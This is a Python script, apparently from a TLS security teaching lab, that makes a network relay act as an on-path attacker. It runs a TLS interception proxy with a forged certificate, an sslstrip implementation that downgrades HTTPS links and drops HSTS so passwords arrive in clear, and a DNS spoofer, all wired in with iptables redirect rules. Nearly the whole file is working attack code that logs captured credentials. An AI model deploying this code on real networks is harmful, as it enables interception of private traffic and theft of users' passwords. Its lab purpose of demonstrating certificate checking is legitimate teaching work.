#!/usr/bin/env python3
"""attacker: the wire turns attacker. An on-path interceptor and a DNS spoofer.

The wire already forwards every packet between the client and the others.
Here it stops forwarding some of them and answers itself:

    attacker.py start --client ADDR --server ADDR [--spoof-dns NAME=ADDR]
        iptables REDIRECT sends the client's TCP port 443 to a local TLS
        proxy (and, with --spoof-dns, its DNS queries to a local responder
        that answers NAME with ADDR). The proxy presents the attacker's own
        certificate for the name the client asked for, relays to the real
        server, and writes everything it read in clear to its log.
    attacker.py start --client ADDR --server ADDR --strip
        sslstrip (Marlinspike, 2009): only the client's plain HTTP (port 80)
        is taken. The attacker speaks HTTPS to the site itself, follows its
        redirect to https:// on the client's behalf, and answers the client
        in plain HTTP with every https:// link turned into http:// and the
        Strict-Transport-Security header dropped; the login form then posts
        the password to the attacker in clear. Port 443 is left alone: a
        client that goes to https:// by itself (HSTS) passes untouched.
    attacker.py stop
        removes the rules and stops the proxy; prints the log as JSON and removes it
        (it holds what the attacker read in clear: no password stays on the wire).

A client that checks certificates refuses the attacker's certificate, and
the proxy's log shows the failed handshake and nothing else. A client that
does not check hands over its request, secret and all.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

STATE = Path(os.environ.get("WIRE_STATE", "/run/wire"))
PIDFILE = STATE / "attacker.pid"
LOG = STATE / "attacker.log"
PROXY_PORT = 8443
STRIP_PORT = 8080
DNS_PORT = 5353
SO_ORIGINAL_DST = 80          # linux/netfilter_ipv4.h: where a REDIRECTed connection was going
REDIRECTS = (301, 302, 303, 307, 308)
CERTS = Path("/attacker")


def log(event: dict) -> None:
    """One line of the attacker's log: what it read in clear, secrets and all (root's alone, 0600;
    `stop` hands it to labctl and removes it)."""
    event["time"] = round(time.time(), 6)
    with open(os.open(LOG, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600), "a") as handle:
        handle.write(json.dumps(event) + "\n")


# -- the TLS interceptor ----------------------------------------------------------

def read_request(tls: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = tls.recv(65536)
        if not chunk:
            return data
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value.strip() or 0)
    while len(body) < length:
        chunk = tls.recv(65536)
        if not chunk:
            break
        body += chunk
    return head + b"\r\n\r\n" + body


def intercept(conn: socket.socket, peer: tuple[str, int], server: str, context: ssl.SSLContext) -> None:
    try:
        tls = context.wrap_socket(conn, server_side=True)
    except (ssl.SSLError, OSError) as exc:
        # What a refusing client leaves the attacker: a failed handshake, no data.
        if peer[0] != "127.0.0.1":            # not our own readiness probe
            log({"event": "handshake failed", "client": f"{peer[0]}:{peer[1]}", "error": str(exc)})
        conn.close()
        return
    with tls:
        request = read_request(tls)
        log({"event": "request in clear", "client": f"{peer[0]}:{peer[1]}", "request": request.decode("latin-1")})
        upstream_ctx = ssl.create_default_context()
        upstream_ctx.check_hostname = False          # the attacker does not care who the server is
        upstream_ctx.verify_mode = ssl.CERT_NONE
        try:
            with socket.create_connection((server, 443), timeout=5) as raw, \
                    upstream_ctx.wrap_socket(raw, server_hostname="server.lab.test") as up:
                up.sendall(request)
                response = b""
                while True:
                    chunk = up.recv(65536)
                    if not chunk:
                        break
                    response += chunk
        except OSError as exc:
            log({"event": "upstream failed", "error": str(exc)})
            return
        log({"event": "response in clear", "client": f"{peer[0]}:{peer[1]}",
             "response": response.decode("latin-1")[:2000]})
        tls.sendall(response)


def proxy(server: str) -> None:
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(str(CERTS / "server.lab.test.crt"), str(CERTS / "server.lab.test.key"))
    listener = socket.create_server(("0.0.0.0", PROXY_PORT), backlog=64, reuse_port=False)
    while True:
        conn, peer = listener.accept()
        threading.Thread(target=intercept, args=(conn, peer, server, context), daemon=True).start()


# -- sslstrip ---------------------------------------------------------------------

def original_destination(conn: socket.socket) -> str:
    """The address the client was connecting to before iptables REDIRECTed it here."""
    raw = conn.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)         # a struct sockaddr_in
    return socket.inet_ntoa(raw[4:8])


def fetch(address: str, host: str, method: str, target: str, body: bytes, tls: bool
          ) -> tuple[int, list[tuple[str, str]], bytes]:
    """One request to the site at ADDRESS as the attacker makes it: over TLS (port 443, SNI HOST, no
    certificate check: the attacker does not care who the site is) or plain (port 80); HTTP/1.0, so
    the answer is never chunked. Returns the status, the header fields and the body."""
    head = [f"{method} {target} HTTP/1.0", f"Host: {host}", "User-Agent: tlslab-browser/1"]
    if body:
        head += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(body)}"]
    data = b""
    with socket.create_connection((address, 443 if tls else 80), timeout=5) as raw:
        sock = raw
        if tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            sock = context.wrap_socket(raw, server_hostname=host)
        with sock:
            sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode() + body)
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                data += chunk
    top, _, content = data.partition(b"\r\n\r\n")
    lines = top.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1]) if len(lines[0].split()) > 1 and lines[0].split()[1].isdigit() else 502
    fields = [(name.strip(), value.strip()) for name, _, value in (line.partition(":") for line in lines[1:])]
    return status, fields, content


SECURE_HOSTS: set[str] = set()      # hosts seen redirecting to https:// (sslstrip keeps such a list)


def strip(conn: socket.socket, peer: tuple[str, int]) -> None:
    """One plain-HTTP request of the victim: passed on as the site wants it, answered stripped."""
    client = f"{peer[0]}:{peer[1]}"
    with conn:
        try:
            request = read_request(conn)
            address = original_destination(conn)
        except OSError as exc:
            if peer[0] != "127.0.0.1":            # not our own readiness probe
                log({"event": "request failed", "client": client, "error": str(exc)})
            return
        if not request:
            return
        log({"event": "request in clear", "client": client, "request": request.decode("latin-1")})
        head, _, body = request.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        method, target = (lines[0].split() + ["GET", "/"])[:2]
        host = next((line.split(":", 1)[1].strip() for line in lines[1:] if line.lower().startswith("host:")),
                    address)
        try:
            # As the client asked (plain), unless this host is known to want https.
            status, fields, content = fetch(address, host, method, target, body, tls=host in SECURE_HOSTS)
            for _ in range(5):        # the site's redirect to https://: followed here, never shown
                location = next((v for k, v in fields if k.lower() == "location"), "")
                if status not in REDIRECTS or not location.startswith(f"https://{host}/"):
                    break
                SECURE_HOSTS.add(host)
                log({"event": "followed the redirect to https itself", "client": client, "location": location})
                status, fields, content = fetch(address, host, "GET", location[len(f"https://{host}"):], b"",
                                                tls=True)
        except OSError as exc:
            log({"event": "upstream failed", "client": client, "error": str(exc)})
            conn.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            return
        links = content.count(b"https://")
        content = content.replace(b"https://", b"http://")
        dropped = [k for k, _ in fields if k.lower() == "strict-transport-security"]
        kept = [(k, v.replace("https://", "http://")) for k, v in fields
                if k.lower() not in ("strict-transport-security", "content-length", "connection")]
        answer = [f"HTTP/1.1 {status} {'OK' if status == 200 else 'stripped'}", *(f"{k}: {v}" for k, v in kept),
                  f"Content-Length: {len(content)}", "Connection: close"]
        conn.sendall(("\r\n".join(answer) + "\r\n\r\n").encode("latin-1") + content)
        log({"event": "response stripped", "client": client, "status": status,
             "links rewritten to http": links, "headers dropped": dropped,
             "response": content.decode("latin-1")[:2000]})


def stripper() -> None:
    listener = socket.create_server(("0.0.0.0", STRIP_PORT), backlog=64)
    while True:
        conn, peer = listener.accept()
        threading.Thread(target=strip, args=(conn, peer), daemon=True).start()


# -- the DNS spoofer --------------------------------------------------------------

def spoof_answer(query: bytes, name: str, address: str) -> bytes | None:
    """Answer an A query for `name` with `address` (RFC 1035 4.1), as if from the resolver."""
    if len(query) < 12:
        return None
    qid, flags, qdcount = struct.unpack("!HHH", query[:6])
    pos, labels = 12, []
    while pos < len(query) and query[pos]:
        n = query[pos]
        labels.append(query[pos + 1:pos + 1 + n].decode("ascii", "replace"))
        pos += 1 + n
    question = query[12:pos + 5]
    qname = ".".join(labels).lower()
    rcode = 0 if qname == name else 3      # NXDOMAIN for anything else: this attacker is focused
    header = struct.pack("!HHHHHH", qid, 0x8400 | (flags & 0x0100) | rcode, 1, 1 if rcode == 0 else 0, 0, 0)
    answer = b""
    if rcode == 0:
        answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 5, 4) + socket.inet_aton(address)
    return header + question + answer


def spoofer(name: str, address: str) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", DNS_PORT))
    while True:
        query, peer = sock.recvfrom(512)
        reply = spoof_answer(query, name, address)
        if reply:
            sock.sendto(reply, peer)
            log({"event": "dns spoofed", "client": f"{peer[0]}:{peer[1]}", "name": name, "answer": address})


# -- control ----------------------------------------------------------------------

def iptables(*args: str) -> None:
    subprocess.run(["iptables", "-t", "nat", *args], check=True, capture_output=True, text=True)


def start(args: argparse.Namespace) -> dict:
    """Only inside the run's turn (wirectl.in_turn): started after its run died, the rules would
    stay until the next run."""
    sys.path.insert(0, str(Path(__file__).resolve().parent))
    import wirectl

    try:
        with wirectl.in_turn(args.turn):
            return _start(args)
    except wirectl.WireError as exc:
        raise OSError(str(exc)) from None


def _start(args: argparse.Namespace) -> dict:
    if PIDFILE.exists():
        stop()
    STATE.mkdir(parents=True, exist_ok=True)
    LOG.unlink(missing_ok=True)
    os.close(os.open(LOG, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600))
    pid = os.fork()
    if pid == 0:                                   # the attacker process
        os.setsid()
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        # Nothing else of the parent's: an inherited ops lock would hold off the wire's sweeps.
        for fd in [int(n) for n in os.listdir("/proc/self/fd") if int(n) > 2]:
            try:
                os.close(fd)
            except OSError:
                pass
        if args.spoof_dns:
            name, _, address = args.spoof_dns.partition("=")
            threading.Thread(target=spoofer, args=(name.lower(), address), daemon=True).start()
        if args.strip:
            stripper()
        else:
            proxy(args.server)
        os._exit(0)
    PIDFILE.write_text(str(pid))
    port, taken = (STRIP_PORT, "80") if args.strip else (PROXY_PORT, "443")
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:             # listening before the rules point at it
        with socket.socket() as probe:
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                break
        time.sleep(0.01)
    iptables("-A", "PREROUTING", "-s", args.client, "-p", "tcp", "--dport", taken,
             "-j", "REDIRECT", "--to-ports", str(port))
    if args.spoof_dns:
        iptables("-A", "PREROUTING", "-s", args.client, "-p", "udp", "--dport", "53",
                 "-j", "REDIRECT", "--to-ports", str(DNS_PORT))
    return {"running": True, "pid": pid, "spoof_dns": args.spoof_dns or None, "strip": args.strip}


def stop() -> dict:
    subprocess.run(["iptables", "-t", "nat", "-F", "PREROUTING"], capture_output=True)
    if PIDFILE.exists():
        try:
            os.killpg(int(PIDFILE.read_text()), signal.SIGKILL)
        except (ProcessLookupError, ValueError, PermissionError):
            pass
        PIDFILE.unlink(missing_ok=True)
    events = [json.loads(line) for line in LOG.read_text().splitlines() if line.strip()] if LOG.exists() else []
    LOG.unlink(missing_ok=True)          # the passwords it read leave the wire with this answer
    return {"running": False, "log": events}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="The wire as attacker: TLS interception and DNS spoofing.")
    sub = parser.add_subparsers(dest="command", required=True)
    p = sub.add_parser("start", help="redirect the client's traffic to the attacker")
    p.add_argument("--client", required=True, help="the victim's address")
    p.add_argument("--server", required=True, help="the real server's address (the proxy relays there)")
    p.add_argument("--spoof-dns", metavar="NAME=ADDR", help="answer the victim's DNS query for NAME with ADDR")
    p.add_argument("--strip", action="store_true",
                   help="sslstrip: take the victim's plain HTTP (port 80) instead of its TLS, and strip https://")
    p.add_argument("--turn", required=True, metavar="TOKEN", help="the run's turn (wirectl turn --token)")
    sub.add_parser("stop", help="remove the rules, stop, and print the attacker's log")
    args = parser.parse_args(argv)
    from wirectl import reply            # the wire's programs answer labctl the same way

    try:
        result = start(args) if args.command == "start" else stop()
    except (OSError, subprocess.CalledProcessError) as exc:
        detail = getattr(exc, "stderr", "") or str(exc)
        return reply({"error": detail.strip().splitlines()[-1] if detail.strip() else str(exc)}, 1)
    return reply(result)


if __name__ == "__main__":
    sys.exit(main())
